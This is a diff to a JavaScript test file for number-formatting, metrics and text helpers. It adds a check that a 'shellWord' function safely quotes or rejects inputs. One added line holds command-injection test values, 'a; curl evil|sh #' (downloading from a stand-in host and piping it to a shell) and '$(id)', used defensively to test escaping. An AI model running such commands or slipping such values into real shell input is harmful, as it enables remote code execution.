@@ -63,7 +63,7 @@ test('numbers, quantiles and texts', async () => {
       const { bytes, microseconds, span } = await import('/js/format.js');
       const { parseMetrics, quantile } = await import('/js/metrics.js');
       const { ceiling } = await import('/js/chart.js');
-      const { jsonText, visible } = await import('/js/text.js');
+      const { jsonText, shellWord, visible } = await import('/js/text.js');
       const page = 'h_bucket{le="1"} 2\nh_bucket{le="2"} 4\nh_bucket{le="+Inf"} 4\n# HELP x\nplain 7\n';
       const now = parseMetrics(page).histogram('h');
       return {
@@ -75,6 +75,7 @@ test('numbers, quantiles and texts', async () => {
         ceiling: [0, 0.3, 1, 3, 7, 5000, 5001].map(ceiling),
         visible: visible('a\u202eb\n\u{e0041}\ufeff'),
         json: jsonText({ a: 'x\u202e\n\u{e0041}' }),
+        words: ['echo', 'a; curl evil|sh #', "it's", '-x', '$(id)', 'a\u202eb', 'a\nb'].map(shellWord),
       };
     });
     assert.deepEqual(told, {
@@ -86,6 +87,7 @@ test('numbers, quantiles and texts', async () => {
       ceiling: [1, 0.5, 1, 5, 10, 5000, 10000],
       visible: 'a‹U+202E›b‹U+000A›‹U+E0041›‹U+FEFF›',
       json: '{\n  "a": "x\\u202e\\n\\udb40\\udc41"\n}',
+      words: ['echo', "'a; curl evil|sh #'", "'it'\\''s'", "'-x'", "'$(id)'", null, null],
     });
   });
 });
